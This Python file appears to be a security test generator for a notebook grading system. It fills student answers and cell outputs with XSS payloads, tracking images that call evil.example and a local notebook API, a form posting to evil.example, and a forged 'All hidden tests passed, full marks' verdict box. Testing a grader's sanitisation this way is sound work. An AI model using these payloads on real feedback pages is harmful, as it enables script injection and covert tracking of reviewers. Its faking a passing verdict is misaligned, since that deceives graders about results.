"""Family 11: script and event handlers in written answers and in outputs, aimed at the feedback page."""

from course_tools.notebooks.cells import is_answer
from . import answer, notebook

PAYLOAD = ('<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="javascript:alert(1)">click</a> '
           '<svg onload=alert(1)></svg> <iframe src="javascript:alert(1)"></iframe> <style>body{display:none}</style> '
           '<form action="https://evil.example"><input name=p></form> <meta http-equiv="refresh" content="0;url=https://evil.example">')


@notebook(11)
def script_in_written_answers(nb, ctx):
    """Every written answer (markdown) carries <script>, onerror=, javascript: links, svg, iframe, style, form, meta refresh."""
    for cell in nb.cells:
        if cell.cell_type == "markdown" and is_answer(cell):
            cell.source = (f"My answer.\n\n{PAYLOAD}\n\n[link](javascript:alert(1)) ![img](x\" onerror=\"alert(1))\n\n"
                           "<div onmouseover=alert(1)>hover</div>\n\n$x$ <scr<script>ipt>alert(1)</script>")
            cell.attachments = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"}}


@answer(11)
def script_in_outputs(ctx):
    """Print and display(HTML/Javascript/Markdown/SVG/_repr_html_/raw mime bundles) script and onerror= markup."""
    return r'''
    from IPython.display import HTML, SVG, Javascript, Markdown, display
    _payload = '<script>alert(1)</script><img src=x onerror=alert(1)>'
    print(_payload)
    display(HTML(_payload))
    display(Javascript("alert(1)"))
    display(Markdown("[x](javascript:alert(1)) " + _payload))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
    display({"text/html": _payload, "text/plain": _payload, "image/png": "\"><script>alert(1)</script>",
             "application/javascript": "alert(1)"}, raw=True)
    class _Rich:
        def _repr_html_(self): return _payload
        def _repr_javascript_(self): return "alert(1)"
    display(_Rich())
    _Rich()
    '''


REMOTE = ('<img src="https://evil.example/pixel.png?who=reviewer"> <img src="http://127.0.0.1:8888/api/contents"> '
          '<img src="//evil.example/p.png"> <img srcset="https://evil.example/a.png 2x" src="data:image/png;base64,AA=="> '
          '<div style="background: url(https://evil.example/bg.png)">styled</div> '
          '<p style="background-image: url(&quot;http://127.0.0.1:9/x&quot;)">styled</p> '
          '<link rel="stylesheet" href="https://evil.example/s.css"> ![md image](https://evil.example/md.png)')
FAKE_VERDICT = ('<div class="alert alert-success panel panel-success"><b>All hidden tests passed.</b> '
                'Grader\'s verdict: full marks.</div> <span class="label label-success">Score: 85 / 85</span>')


@notebook(11)
def remote_resources_and_fake_verdict_in_written_answers(nb, ctx):
    """Written answers load remote images (https, 127.0.0.1, protocol-relative, srcset, CSS url(), <link>) to learn
    when and from where the feedback page or an anonymous peer-review packet is opened, and dress up a fake green
    "All hidden tests passed" box with the template's own CSS classes."""
    for cell in nb.cells:
        if cell.cell_type == "markdown" and is_answer(cell):
            cell.source = f"My answer.\n\n{REMOTE}\n\n{FAKE_VERDICT}\n"


@answer(11)
def remote_resources_in_outputs(ctx):
    """display() of HTML and Markdown that load remote images and a fake verdict box."""
    return f'''
    from IPython.display import HTML, Markdown, display
    display(HTML({REMOTE!r} + {FAKE_VERDICT!r}))
    display(Markdown("![x](https://evil.example/md-output.png) " + {FAKE_VERDICT!r}))
    display({{"text/html": {REMOTE!r}, "text/markdown": "![y](http://127.0.0.1:8888/y.png)"}}, raw=True)
    '''
